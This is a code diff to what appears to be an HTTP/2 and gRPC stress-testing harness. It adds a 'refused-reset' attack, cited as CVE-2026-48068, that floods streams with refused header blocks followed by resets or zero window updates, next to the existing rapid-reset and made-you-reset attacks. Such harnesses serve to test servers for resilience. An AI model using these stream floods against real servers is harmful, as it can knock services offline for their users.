@@ -1,6 +1,18 @@
 import { type Attack, atOnce, digested, onConnection, pour, streamOf, type Target } from "./attack.ts";
 import { CLAIM_PATH, call, callBlock, claimBody } from "./calls.ts";
-import { data, FLAG, frame, headers, OPENING, priority, reset, TYPE, windowUpdate } from "./frame.ts";
+import {
+  callHeaders,
+  data,
+  FLAG,
+  frame,
+  headerBlock,
+  headers,
+  OPENING,
+  priority,
+  reset,
+  TYPE,
+  windowUpdate,
+} from "./frame.ts";
 
 const CONNECTIONS = 4;
 const STREAMS = 1000;
@@ -30,6 +42,19 @@ const PROVOCATIONS: readonly ((stream: number) => Buffer)[] = [
   (stream) => frame(TYPE.headers, FLAG.endHeaders, stream, Buffer.of(0x82)),
 ];
 
+/** What is refused before there is a call, by its path or by its type. */
+const REFUSED = [
+  headerBlock(callHeaders("/nobody.has.This/Method")),
+  headerBlock(callHeaders(CLAIM_PATH).map(([name, value]) => [name, name === "content-type" ? "text/plain" : value])),
+];
+
+/** Errors of a stream, not just its end: whoever does not listen for them is ended by them. */
+const ERRORS: readonly ((stream: number) => Buffer)[] = [
+  (stream) => reset(stream, 1),
+  (stream) => reset(stream, 2),
+  (stream) => windowUpdate(stream, 0),
+];
+
 export const RESETS: readonly Attack[] = [
   {
     ...{ name: "rapid-reset", port: "grpc", what: "calls that are reset in the same write (CVE-2023-44487)" },
@@ -44,6 +69,14 @@ export const RESETS: readonly Attack[] = [
     ...{ name: "made-you-reset", port: "grpc", what: "calls that the server itself must reset (CVE-2025-8671)" },
     round: (target) =>
       streams(target, (stream) => Buffer.concat([call(target, stream), target.chance.pick(PROVOCATIONS)(stream)])),
+  },
+  {
+    ...{ name: "refused-reset", port: "grpc", what: "what is no call, and breaks as it is refused (CVE-2026-48068)" },
+    round: (target) =>
+      streams(target, (stream) => {
+        const { chance } = target;
+        return Buffer.concat([headers(stream, chance.pick(REFUSED)), chance.pick(ERRORS)(stream)]);
+      }),
   },
   {
     ...{ name: "many-streams", port: "grpc", what: "five times as many calls at once as the server lets in" },
